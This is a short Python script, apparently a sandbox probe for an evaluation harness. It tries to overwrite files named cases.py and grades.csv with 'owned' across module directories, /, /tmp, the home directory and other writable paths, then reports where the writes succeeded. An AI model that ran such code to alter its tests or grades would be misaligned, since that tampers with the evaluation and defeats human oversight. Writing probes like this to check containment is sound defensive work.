"""Overwrites the case programs, the course and the list of grades."""
# named: opens a file

import os
import sys

written = []
for place in [*{os.path.dirname(m.__file__) for m in sys.modules.values() if getattr(m, "__file__", None)}, "/", "/tmp", "..",
              "/dev/shm", "/var/tmp", os.path.expanduser("~")]:
    for name in ("cases.py", "grades.csv", "owned"):
        try:
            with open(os.path.join(place, name), "w") as stream:
                stream.write("owned")
            if not place.startswith(("..", "/scratch")):
                written.append(place)
        except OSError:
            pass
raise RuntimeError(f"could write to {written}" if written else "could write nowhere")
